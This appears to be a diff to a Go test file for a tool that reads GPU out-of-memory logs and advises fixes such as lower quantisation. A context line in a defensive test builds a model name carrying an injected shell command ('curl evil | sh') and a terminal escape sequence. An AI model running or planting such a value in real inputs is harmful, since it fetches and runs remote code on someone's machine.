@@ -118,6 +118,23 @@ func TestEffects(t *testing.T) {
 	assert.Equal(t, int64(5<<30+100<<20), grow.HaveBytes)
 }
 
+// TestLowerQuantIsPlanned: the model's name and the card give the file.
+func TestLowerQuantIsPlanned(t *testing.T) {
+	log := "vocab ok, loading meta-llama/Meta-Llama-3-8B-Instruct\n  File \"load.py\", line 3, in <module>\n    model = AutoModelForCausalLM.from_pretrained(\"meta-llama/Meta-Llama-3-8B-Instruct\").cuda()\n" +
+		"torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 112.00 MiB. GPU 0 has a total capacity of 7.62 GiB of which 40.00 MiB is free. Including non-PyTorch memory, this process has 7.58 GiB memory in use. Of the allocated memory 7.40 GiB is allocated by PyTorch, and 1.00 MiB is reserved by PyTorch but unallocated." + recentHint
+	for _, f := range only(t, log).Fixes {
+		if f.ID != "use_lower_quant" {
+			continue
+		}
+		require.NotNil(t, f.Effect)
+		assert.True(t, f.Effect.Fits)
+		assert.Equal(t, "estimate", f.Effect.Basis)
+		assert.Contains(t, f.Steps[0].Text, "Meta-Llama-3-8B-Instruct in `Q")
+		return
+	}
+	assert.Fail(t, "no advice to quantise")
+}
+
 // TestHostileNames: what a log says never becomes a command of its own.
 func TestHostileNames(t *testing.T) {
 	c := &rules.Case{Facts: &parsers.Facts{}, Model: rules.NewModel("x'; curl evil | sh #\n\x1b[2J", 1)}
